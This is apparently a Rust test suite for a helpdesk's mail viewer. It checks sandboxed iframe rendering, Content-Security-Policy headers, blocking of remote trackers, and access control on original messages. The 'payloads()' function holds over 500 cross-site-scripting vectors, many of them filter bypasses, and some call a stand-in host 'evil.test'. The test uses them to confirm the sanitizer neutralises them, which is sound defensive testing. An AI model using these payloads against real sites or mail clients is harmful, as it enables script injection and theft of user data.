//! Mails in their frames: what is shown, what is not fetched, and whose it is.

use crate::desk::{Browser, Desk, Letter, Person, SentMail};

const PNG: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

async fn stage() -> (Desk, Person, Person) {
    let desk = Desk::open().await;
    let payroll = desk.team("Payroll").await;
    let ann = desk.expert("Ann Expert", &[payroll]).await;
    let claire = desk.employee("Claire Martin").await;
    (desk, ann, claire)
}

fn html(from: &Person, subject: &str, body: &str) -> Letter {
    Letter::new(&from.email, "payroll@hr.test", subject, body)
        .with("Content-Type", "text/html; charset=utf-8")
}

/// An answer with much in it: HTML, quoted words, a picture from elsewhere, an invitation, a file.
pub(crate) async fn answers_in_html(desk: &Desk, from: &Person, sent: &SentMail) {
    let body = "--m\nContent-Type: text/html\n\n<p>Thank you, <b>Ann</b>. See <a href='https://x.test/'>this</a>.</p>\
                <img src='https://x.test/logo.png' alt='logo'><table border=1><tr><th>Month<th>Pay<tr><td>May<td>1</table>\
                <div class=gmail_quote><div class=gmail_attr>On Mon, 3 Feb 2025 at 14:05, Ann &lt;a@b.test&gt; wrote:</div>\
                <blockquote class=gmail_quote>old words</blockquote></div>\n\
                --m\nContent-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\n\
                SUMMARY:Meeting\nDTSTART:20260112T090000Z\nEND:VEVENT\nEND:VCALENDAR\n--m--\n";
    let letter =
        Letter::answer(&from.email, sent, body).with("Content-Type", "multipart/mixed; boundary=m");
    desk.gets_mail(&letter).await;
}

/// The address of the first frame of a request's page.
async fn frame(reader: &Person, number: i64) -> String {
    let page = reader
        .web
        .opens(&format!("/requests/{number}"))
        .await
        .is(200);
    frames(&page.text).into_iter().next().expect("a frame")
}

fn frames(page: &str) -> Vec<String> {
    page.split("<iframe ")
        .skip(1)
        .map(|it| {
            it.split("src=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap()
                .to_owned()
        })
        .collect()
}

/// I6, RS-T10. A mail with HTML is shown in a frame of its own, with its pictures in place; nothing is fetched from
/// elsewhere before somebody asks for it; plain text stays in the page.
#[tokio::test]
async fn a_mail_is_shown_in_its_frame() {
    let (desk, ann, claire) = stage().await;
    let body = format!(
        "--r\nContent-Type: text/html; charset=utf-8\n\n<p onclick=x style='color:red'>Look: <img src='cid:pic@x' alt='chart'>\
         <img src='https://tracker.test/p.gif?id=1' alt=''></p>\
         <div class=gmail_quote><div class=gmail_attr>On Mon, 3 Feb 2025 at 14:05, Ann &lt;a@b.test&gt; wrote:</div>\
         <blockquote class=gmail_quote>old words</blockquote></div>\n\
         --r\nContent-Type: image/png\nContent-ID: <pic@x>\nContent-Transfer-Encoding: base64\n\n{PNG}\n--r--\n"
    );
    let letter = Letter::new(&claire.email, "payroll@hr.test", "Chart", &body)
        .with("Content-Type", "multipart/related; boundary=r");
    desk.gets_mail(&letter).await;
    desk.gets_mail(&Letter::new(
        &claire.email,
        "payroll@hr.test",
        "Plain",
        "plain words",
    ))
    .await;
    desk.settles().await;

    let address = frame(&ann, 1).await;
    let view = ann.web.opens(&address).await.is(200);
    let policy = view.header("content-security-policy");
    for part in [
        "default-src 'none'",
        "img-src 'self';",
        "frame-ancestors 'self'",
        "form-action 'none'",
        "sandbox allow-same-origin",
    ] {
        assert!(policy.contains(part), "{policy}");
    }
    assert!(!policy.contains("script"), "{policy}");
    assert!(
        view.text.contains("/requests/1/files/") && view.text.contains("alt=\"chart\""),
        "{}",
        view.text
    );
    assert!(
        !view.text.contains(" src=\"https://tracker")
            && !view.text.contains("onclick")
            && !view.text.contains("style=")
    );
    let (shown, folded) = view
        .text
        .split_once("<details>")
        .expect("quoted words are folded");
    assert!(
        shown.contains("Look:") && folded.contains("old words"),
        "{}",
        view.text
    );

    let pictures = ann
        .web
        .opens(&format!("{address}?pictures=true"))
        .await
        .is(200);
    assert!(
        pictures
            .text
            .contains("referrerpolicy=\"no-referrer\" src=\"https://tracker.test/p.gif?id=1\"")
    );
    assert!(
        pictures
            .header("content-security-policy")
            .contains("img-src 'self' https: http:;")
    );
    let words = ann.web.opens(&format!("{address}?form=text")).await.is(200);
    assert!(
        words.text.contains("Look:")
            && words.text.contains("old words")
            && !words.text.contains("<img")
    );

    let plain = ann.web.opens("/requests/2").await.is(200);
    assert!(frames(&plain.text).is_empty() && plain.text.contains("plain words"));
    assert!(
        plain
            .header("content-security-policy")
            .contains("frame-src 'self'")
    );
}

/// R5, RS-T39. The mail as it came is for the experts of its request: as text in which nothing acts, and as a file.
#[tokio::test]
async fn the_original_is_for_the_experts_of_the_request() {
    let (desk, ann, claire) = stage().await;
    let travel = desk.team("Travel").await;
    let ben = desk.expert("Ben Expert", &[travel]).await;
    desk.gets_mail(&html(&claire, "Größe: \"M\"", "<p>canary</p>").with("X-Made-By", "a program"))
        .await;
    desk.settles().await;

    let address = frame(&ann, 1).await;
    let base = address.trim_end_matches("/view");
    let source = ann.web.opens(&format!("{base}/original")).await.is(200);
    assert_eq!(source.header("content-type"), "text/plain; charset=utf-8");
    assert_eq!(source.header("x-content-type-options"), "nosniff");
    assert!(
        source
            .header("content-security-policy")
            .starts_with("sandbox")
    );
    assert!(source.text.contains("X-Made-By: a program") && source.text.contains("<p>canary</p>"));
    let file = ann.web.opens(&format!("{base}/original.eml")).await.is(200);
    assert_eq!(file.header("content-type"), "message/rfc822");
    assert!(
        file.header("content-disposition")
            .starts_with("attachment; filename=\"1 "),
        "{}",
        file.header("content-disposition")
    );
    assert!(file.header("content-disposition").contains(".eml"));

    for person in [&ben, &claire, desk.administrator()] {
        for path in ["view", "original", "original.eml"] {
            let page = person.web.opens(&format!("{base}/{path}")).await;
            assert!(
                [303, 404].contains(&page.status.as_u16()),
                "{path}: {}",
                page.status
            );
            assert!(!page.text.contains("canary"));
        }
    }
    // A message of another request is not there.
    desk.request(&claire, "payroll@hr.test", "Other").await;
    let elsewhere = format!("{}/original", base.replace("/requests/1/", "/requests/2/"));
    ann.web.opens(&elsewhere).await.is(404);
}

/// I6. Small pictures, and those that were there before, take no more room than words; pictures of two mails with the
/// same name are not mixed up.
#[tokio::test]
async fn logos_that_come_again_are_small() {
    let (desk, ann, claire) = stage().await;
    let large = data_encoding::BASE64_MIME.encode(
        &[
            &data_encoding::BASE64.decode(PNG.as_bytes()).unwrap()[..],
            &[0; 3000],
        ]
        .concat(),
    );
    let letter = |id: &str, subject: &str| {
        let body = format!(
            "--r\nContent-Type: text/html\n\n<p>{subject}<img src='cid:{id}' alt='logo'></p>\n\
             --r\nContent-Type: image/png\nContent-ID: <{id}>\nContent-Transfer-Encoding: base64\n\n{large}\n--r--\n"
        );
        Letter::new(&claire.email, "payroll@hr.test", subject, &body)
            .with("Content-Type", "multipart/related; boundary=r")
    };
    let first = letter("image001", "Hello");
    desk.gets_mail(&first).await;
    let again = letter("image001", "Hello again")
        .with("Subject", "Re: Hello")
        .with("In-Reply-To", &first.message_id());
    desk.gets_mail(&again).await;
    desk.settles().await;

    let page = ann.web.opens("/requests/1").await.is(200);
    let frames = frames(&page.text);
    assert_eq!(frames.len(), 2, "{}", page.text);
    let one = ann.web.opens(&frames[0]).await.is(200).text;
    let two = ann.web.opens(&frames[1]).await.is(200).text;
    assert!(
        !one.contains("data-minor") && two.contains("data-minor"),
        "{two}"
    );
    let file = |text: &str| text.split("/requests/1/files/").nth(1).unwrap()[..36].to_owned();
    assert_ne!(file(&one), file(&two));
}

/// RS-T10. 500 payloads in mails: nothing runs, nothing is asked of anybody else, and no markup of theirs is left that
/// could act.
#[tokio::test]
async fn five_hundred_payloads_do_nothing() {
    let (desk, ann, claire) = stage().await;
    let payloads = payloads();
    assert!(payloads.len() >= 500, "{}", payloads.len());
    let Some(browser) = Browser::start(&desk).await else {
        return;
    };
    for (count, some) in payloads.chunks(50).enumerate() {
        let mut body = String::new();
        for payload in some {
            body.push_str(&format!("<div>{payload}</div>\n"));
        }
        let subject = format!("{} {count}", &some[0]);
        let from = format!(
            "\"{}\" <{}>",
            some[1].replace(['"', '\\', '<', '>'], "'"),
            claire.email
        );
        let letter = Letter::new(
            &from,
            "payroll@hr.test",
            &subject.replace(['\r', '\n'], " "),
            &body,
        )
        .with("Content-Type", "text/html; charset=utf-8");
        desk.gets_mail(&letter).await;
        desk.advance(600);
    }
    desk.settles().await;
    browser.signs_in(&desk, &ann).await;
    for number in desk.requests().await {
        browser.opens(&format!("/requests/{number}")).await;
        browser.sees("document.querySelector('iframe.mail-frame')?.contentDocument?.querySelector('link')").await;
        browser.sees("document.querySelector('iframe.mail-frame').contentDocument.readyState === 'complete'").await;
        let found = browser
            .asks(
                "(() => { const page = document.querySelector('iframe.mail-frame').contentDocument; const bad = [];\
                 for (const it of page.body.querySelectorAll('*')) {\
                   if (!['P','BR','DIV','SPAN','B','STRONG','I','EM','U','S','DEL','STRIKE','SUB','SUP','UL','OL','LI','BLOCKQUOTE','PRE','CODE','A','H1','H2','H3','H4','H5','H6','HR','TABLE','THEAD','TBODY','TFOOT','TR','TD','TH','IMG','DETAILS','SUMMARY'].includes(it.tagName)) bad.push(it.tagName);\
                   for (const { name, value } of it.attributes) {\
                     const fine = ['href','target','rel','src','alt','data-remote-src','data-missing','data-minor','colspan','rowspan','border','loading'].includes(name) || ['prose','bar'].includes(value) && name === 'class';\
                     if (!fine) bad.push(`${it.tagName} ${name}=${value}`);\
                     if (name === 'href' && !/^(https?:|mailto:|tel:|\\?)/i.test(value)) bad.push(value);\
                     if (name === 'src' && !value.startsWith('/requests/')) bad.push(value);\
                   }\
                 }\
                 const asked = [...performance.getEntriesByType('resource'), ...page.defaultView.performance.getEntriesByType('resource')];\
                 for (const it of asked) if (new URL(it.name).origin !== location.origin) bad.push(it.name);\
                 if (document.title === 'owned' || window.owned || page.defaultView.owned) bad.push('ran');\
                 return bad })()",
            )
            .await;
        assert_eq!(found, serde_json::json!([]), "request {number}");
    }
    let complaints = browser.complaints().await;
    assert!(complaints.is_empty(), "{complaints:#?}");
}

/// Ways to run a script, each in many disguises.
fn payloads() -> Vec<String> {
    const RUN: [&str; 6] = [
        "owned=1",
        "alert(1)",
        "top.owned=1",
        "parent.document.title='owned'",
        "fetch('https://evil.test/')",
        "new Image().src='https://evil.test/'",
    ];
    const FORMS: [&str; 92] = [
        "<script>RUN</script>",
        "<SCRIPT SRC=https://evil.test/x.js></SCRIPT><!--RUN-->",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<script/x>RUN</script/>",
        "<script\n>RUN</script\n>",
        "<img src=x onerror=RUN>",
        "<img src=x onerror=\"RUN\"//",
        "<img/src=x/onerror=RUN>",
        "<img src=`x`onerror=RUN>",
        "<IMG SRC=\"jav&#x09;ascript:RUN;\">",
        "<img src='https://evil.test/RUN.png'>",
        "<img srcset='https://evil.test/RUN 2x'>",
        "<img src=cid:x onload=RUN>",
        "<img lowsrc='javascript:RUN' dynsrc='javascript:RUN'>",
        "<image src=x onerror=RUN>",
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
        "<svg><set attributeName=href to=javascript:RUN></svg>",
        "<svg><foreignObject><iframe onload=RUN></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg onload=RUN>#x'></use></svg>",
        "<svg><style><img src=x onerror=RUN></style></svg>",
        "<svg><feImage href='https://evil.test/RUN'/></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
        "<math href='javascript:RUN'>x</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
        "<math><annotation-xml encoding='text/html'><script>RUN</script></annotation-xml></math>",
        "<math><mi//xlink:href=\"data:x,<script>RUN</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
        "<a href='javascript:RUN'>x</a>",
        "<a href='JaVaScRiPt:RUN'>x</a>",
        "<a href='java\nscript:RUN'>x</a>",
        "<a href='&#106;avascript:RUN'>x</a>",
        "<a href='\x01javascript:RUN'>x</a>",
        "<a href=' javascript:RUN'>x</a>",
        "<a href='vbscript:RUN'>x</a>",
        "<a href='data:text/html,<script>RUN</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>RUN</a>",
        "<a href='//evil.test/RUN' ping='https://evil.test/'>x</a>",
        "<a href='https://x.test/' onmouseover=RUN autofocus onfocus=RUN>x</a>",
        "<iframe src='javascript:RUN'></iframe>",
        "<iframe srcdoc='<script>RUN</script>'></iframe>",
        "<iframe src=https://evil.test/RUN></iframe>",
        "<frameset onload=RUN><frame src='javascript:RUN'></frameset>",
        "<object data='javascript:RUN'></object>",
        "<object type='text/x-scriptlet' data='https://evil.test/RUN'></object>",
        "<embed src='javascript:RUN'>",
        "<applet code='RUN'></applet>",
        "<body onload=RUN>",
        "<body background='https://evil.test/RUN'>",
        "<div style='background:url(https://evil.test/RUN)'>x</div>",
        "<div style='background-image:url(javascript:RUN)'>x</div>",
        "<div style='width:expression(RUN)'>x</div>",
        "<div style='behavior:url(https://evil.test/RUN)'>x</div>",
        "<div style='position:fixed;inset:0' onclick=RUN>x</div>",
        "<style>@import 'https://evil.test/RUN'; *{background:url(https://evil.test/)}</style>",
        "<style><!--</style><script>RUN//--></script>",
        "<link rel=stylesheet href='https://evil.test/RUN'>",
        "<link rel=import href='https://evil.test/RUN'>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<meta http-equiv=refresh content='0;url=https://evil.test/RUN'>",
        "<meta http-equiv=set-cookie content='a=RUN'>",
        "<base href='https://evil.test/'><a href='RUN'>x</a>",
        "<form action='https://evil.test/'><input name=RUN autofocus onfocus=RUN></form>",
        "<form id=a></form><button form=a formaction='javascript:RUN'>x</button>",
        "<isindex type=image src=1 onerror=RUN>",
        "<input type=image src='https://evil.test/RUN' onerror=RUN>",
        "<select onfocus=RUN autofocus><option>x</select>",
        "<textarea autofocus onfocus=RUN></textarea>",
        "<textarea></textarea><script>RUN</script>",
        "<keygen autofocus onfocus=RUN>",
        "<video src='https://evil.test/RUN' onerror=RUN></video>",
        "<video poster='https://evil.test/RUN'></video>",
        "<audio src=x onerror=RUN></audio>",
        "<source srcset='https://evil.test/RUN'>",
        "<track src='https://evil.test/RUN'>",
        "<marquee onstart=RUN>x</marquee>",
        "<details open ontoggle=RUN>x</details>",
        "<dialog open onclose=RUN>x</dialog>",
        "<template><script>RUN</script></template>",
        "<template shadowrootmode=open><script>RUN</script></template>",
        "<slot onslotchange=RUN>x</slot>",
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
        "<xmp><p title=\"</xmp><img src=x onerror=RUN>\"></xmp>",
        "<title><img src=x onerror=RUN></title>",
        "<plaintext><img src=x onerror=RUN>",
        "<!--><img src=x onerror=RUN>-->",
        "<![CDATA[><img src=x onerror=RUN>]]>",
        "<?xml version='1.0'?><img src=x onerror=RUN>",
        "<table background='https://evil.test/RUN'><td background='javascript:RUN'>x</td></table>",
        "<b id=\"</b><img src=x onerror=RUN>\" class='x' name='body'>x</b>",
    ];
    let mut payloads: Vec<String> = RUN
        .iter()
        .flat_map(|run| FORMS.iter().map(|form| form.replace("RUN", run)))
        .collect();
    // Deep nests push a parser over its limits.
    payloads.push(format!(
        "{}<img src=x onerror=alert(1)>",
        "<div>".repeat(600)
    ));
    payloads.push(format!("{}<svg onload=alert(1)>", "<b><p>".repeat(300)));
    payloads
}

/// I6. 43 pictures stand in their places, in a frame as high as what it holds, and a key pressed there is the inbox's.
#[tokio::test]
async fn forty_three_pictures_stand_in_their_places() {
    let (desk, ann, claire) = stage().await;
    let Some(browser) = Browser::start(&desk).await else {
        return;
    };
    let mut body = "--r\nContent-Type: text/html; charset=utf-8\n\n<p>Screens</p>".to_owned();
    for number in 0..43 {
        body.push_str(&format!(
            "<p>{number} <img src='cid:{number}@x' alt=''></p>"
        ));
    }
    for number in 0..43 {
        let picture = [
            &data_encoding::BASE64.decode(PNG.as_bytes()).unwrap()[..],
            &vec![number; 20_000],
        ]
        .concat();
        body.push_str(&format!(
            "\n--r\nContent-Type: image/png\nContent-ID: <{number}@x>\nContent-Transfer-Encoding: base64\n\n{}",
            data_encoding::BASE64_MIME.encode(&picture)
        ));
    }
    let letter = Letter::new(
        &claire.email,
        "payroll@hr.test",
        "Pictures",
        &format!("{body}\n--r--\n"),
    )
    .with("Content-Type", "multipart/related; boundary=r");
    desk.gets_mail(&letter).await;
    browser.signs_in(&desk, &ann).await;
    for turn in 0..3 {
        browser.opens("/requests/1").await;
        browser
            .sees(
                "(() => { const page = document.querySelector('iframe.mail-frame').contentDocument;\
                 const all = [...page.images]; for (const it of all) it.loading = 'eager';\
                 return all.length === 43 && all.every((it) => it.complete && it.naturalWidth > 0) })()",
            )
            .await;
        let took = browser
            .asks(
                "(() => { const inner = document.querySelector('iframe.mail-frame').contentWindow.performance;\
                 const ends = inner.getEntriesByType('resource').map((it) => it.responseEnd);\
                 return [inner.timeOrigin - performance.timeOrigin, Math.min(...ends), Math.max(...ends)].map(Math.round) })()",
            )
            .await;
        eprintln!("turn {turn}: frame, first and last of what is in it, in ms: {took}");
    }
    browser
        .sees(
            "(() => { const frame = document.querySelector('iframe.mail-frame');\
             return frame.clientHeight >= frame.contentDocument.documentElement.scrollHeight - 1 && frame.clientHeight > 700 })()",
        )
        .await;
    browser
        .asks("document.querySelector('iframe.mail-frame').contentWindow.focus()")
        .await;
    browser.types("?").await;
    browser.sees("document.querySelector('dialog[open]')").await;
    assert!(browser.complaints().await.is_empty());
}
